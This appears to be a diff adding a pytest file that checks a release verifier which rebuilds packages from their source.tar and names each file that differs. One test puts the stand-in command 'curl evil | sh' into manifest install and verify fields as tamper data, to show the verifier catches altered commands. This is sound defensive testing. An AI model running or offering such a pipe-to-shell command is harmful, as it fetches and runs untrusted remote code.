@@ -1,0 +1,177 @@
+"""A release is built once more from its source.tar, and every difference is named by its file."""
+
+from __future__ import annotations
+
+import shutil
+from typing import TYPE_CHECKING
+
+import msgspec
+import pytest
+
+from builder.formats import tar
+from builder.model import File
+from builder.provenance import rebuild, source, verify_release
+from builder.release.manifest import read_manifest
+from builder.signing import finished, site_keys
+from tests import site_keys as made
+from tests.unit.provenance import projects
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from builder.provenance.rebuild import Rebuilt
+    from builder.provenance.verification import Examination, Verification
+    from builder.release.manifest import Manifest
+
+
+@pytest.fixture(scope="module")
+def released(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Build, attest and sign a release with a recipe of its own; no test changes this folder."""
+    folder = tmp_path_factory.mktemp("released") / "one"
+    projects.attested(folder)
+    finished.sign(folder / "dist", site_keys.read(made.folder(folder / "keys")))
+    return folder / "dist"
+
+
+@pytest.fixture
+def dist(tmp_path: Path, released: Path) -> Path:
+    """Return a copy of that release."""
+    return shutil.copytree(released, tmp_path / "dist")
+
+
+def again(dist: Path, scratch: Path, data: bytes | None = None) -> Rebuilt:
+    """Build a release once more from its source, or from another one."""
+    manifest = read_manifest(dist)
+    assert manifest
+    scratch.mkdir()
+    found = (dist / projects.SOURCE).read_bytes() if data is None else data
+    return rebuild.rebuild(found, manifest, scratch, where=projects.SOURCE, now=projects.NOW)
+
+
+def verified(dist: Path, rebuilt: Rebuilt) -> Verification:
+    """Verify a release by what its source builds."""
+    return verify_release.verify("dist", verify_release.read(dist), rebuilt=rebuilt)
+
+
+def examined(found: Verification) -> Examination:
+    """Return what is said of building once more."""
+    (one,) = (one for one in found.examined if one.check == "rebuild")
+    return one
+
+
+def changed(dist: Path, name: str, old: bytes, new: bytes) -> bytes:
+    """Return the release's source with one file changed."""
+    files = dict(source.read((dist / projects.SOURCE).read_bytes(), projects.SOURCE))
+    assert old in files[name]
+    files[name] = files[name].replace(old, new, 1)
+    return tar.write([File(path, data) for path, data in files.items()], 0)
+
+
+def test_a_signed_release_is_what_its_source_builds(dist: Path, tmp_path: Path) -> None:
+    """Its signatures do not count, and its own recipe is in the source."""
+    found = verified(dist, again(dist, tmp_path / "scratch"))
+    assert () == found.discrepancies
+    assert examined(found).done
+    assert f"built once more from {projects.SOURCE}, 3 files compared byte for byte" == examined(found).said
+
+
+def test_without_a_lock_it_is_built_as_well(tmp_path: Path) -> None:
+    """By the release and the time that the manifest tells."""
+    projects.attested(tmp_path / "one", locked=False)
+    found = verified(tmp_path / "one" / "dist", again(tmp_path / "one" / "dist", tmp_path / "scratch"))
+    assert ((), True) == (found.discrepancies, examined(found).done)
+
+
+def test_a_package_that_its_source_does_not_build_is_named_with_what_differs(
+    dist: Path, tmp_path: Path
+) -> None:
+    """Here the one who built has added something to a template, and has not told of it."""
+    data = changed(dist, "templates/own/roots.txt.j2", b"{% for", b"more\n{% for")
+    rebuilt = again(dist, tmp_path / "scratch", data)
+    assert "changed" in rebuilt.fault  # the lock pins the recipe
+    files = {name: text for name, text in source.read(data, "x").items() if name != "trustpack.lock"}
+    rebuilt = again(dist, tmp_path / "other", tar.write([File(*one) for one in files.items()], 0))
+    found = verified(dist, rebuilt)
+    texts = {one.file: one.problem for one in found.discrepancies}
+    assert "acme-roots-2026.1.txt" in texts
+    assert texts["acme-roots-2026.1.txt"].startswith(f"is not what {projects.SOURCE} builds")
+    assert "recipe of acme-roots" in texts["manifest.json"]
+
+
+def test_what_differs_inside_of_a_package_is_told(dist: Path, tmp_path: Path) -> None:
+    """By file, script and field."""
+    data = changed(dist, "trustpack.yaml", b'name: "Acme', b'name: "Evil')
+    files = {name: text for name, text in source.read(data, "x").items() if name != "trustpack.lock"}
+    rebuilt = again(dist, tmp_path / "scratch", tar.write([File(*one) for one in files.items()], 0))
+    texts = {one.file: one.problem for one in verified(dist, rebuilt).discrepancies}
+    assert "file /usr/share/doc/acme-ca-certs/README changed" in texts["acme-ca-certs_2026.1_all.deb"]
+    assert "Description changed" in texts["acme-ca-certs_2026.1_all.deb"]
+    assert "changed" in texts["acme-ca-certs-2026.1-1.noarch.rpm"]
+
+
+def _manifest(dist: Path) -> Manifest:
+    found = read_manifest(dist)
+    assert found
+    return found
+
+
+@pytest.mark.parametrize("key", ["install", "verify", "remove", "recipe", "name", "version", "target"])
+def test_what_the_manifest_tells_of_a_file_is_compared(dist: Path, tmp_path: Path, key: str) -> None:
+    """Commands, too: people paste them into a shell."""
+    rebuilt = again(dist, tmp_path / "scratch")
+    manifest = _manifest(dist)
+    first, *rest = manifest.artifacts
+    other = msgspec.structs.replace(
+        manifest, artifacts=(msgspec.structs.replace(first, **{key: "curl evil | sh"}), *rest)
+    )
+    (found,) = rebuild.compare(rebuilt, other, {}, where=projects.SOURCE)
+    assert ("manifest.json", f"says another {key} of {first.file} than {projects.SOURCE} builds") == (
+        found.file,
+        found.problem,
+    )
+
+
+def test_what_another_packaging_made_is_no_false_alarm(dist: Path, tmp_path: Path) -> None:
+    """That it was not rebuilt is said, and why."""
+    lock = source.read((dist / projects.SOURCE).read_bytes(), "x")["trustpack.lock"]
+    revision = next(line for line in lock.splitlines() if b"revision:" in line)
+    data = changed(dist, "trustpack.lock", revision, b"  revision: 99")
+    found = verified(dist, again(dist, tmp_path / "scratch", data))
+    assert not examined(found).done
+    assert "not rebuilt, because its lock pins packaging revision 99, and trustpack" in examined(found).said
+    assert {projects.SOURCE} == {one.file for one in found.discrepancies} | {projects.SOURCE}
+
+
+def test_what_an_unknown_trustpack_made_is_no_false_alarm(dist: Path, tmp_path: Path) -> None:
+    """Where no lock says how, other bytes may come of another trustpack."""
+    files = dict(source.read((dist / projects.SOURCE).read_bytes(), "x"))
+    del files["trustpack.lock"]
+    files["templates/own/roots.txt.j2"] += b"more\n"
+    rebuilt = again(dist, tmp_path / "scratch", tar.write([File(*one) for one in files.items()], 0))
+    read = verify_release.read(dist)
+    foreign = msgspec.structs.replace(
+        read, manifest=msgspec.structs.replace(read.manifest, trustpack="0.0.9")
+    )
+    said = examined(verify_release.verify("dist", foreign, rebuilt=rebuilt))
+    assert not said.done
+    assert "not rebuilt to the same bytes, because trustpack 0.0.9 made it" in said.said
+
+
+def test_a_source_that_does_not_build_is_a_difference(dist: Path, tmp_path: Path) -> None:
+    """It is named, with the error and no path of this machine."""
+    data = changed(dist, "recipes/own.yaml", b"outputs:", b"output:")
+    files = {name: text for name, text in source.read(data, "x").items() if name != "trustpack.lock"}
+    rebuilt = again(dist, tmp_path / "scratch", tar.write([File(*one) for one in files.items()], 0))
+    found = verified(dist, rebuilt)
+    (said,) = (one for one in found.discrepancies if one.file == projects.SOURCE)
+    assert "does not build: " in said.problem
+    assert "recipes/own.yaml" in said.problem
+    assert str(tmp_path) not in said.problem
+    assert not examined(found).done
+
+
+def test_without_a_source_it_says_so(dist: Path) -> None:
+    """And what was not done is no difference."""
+    found = verify_release.verify("dist", verify_release.read(dist))
+    assert "not rebuilt, because the release has no source.tar" == examined(found).said
+    assert () == found.discrepancies
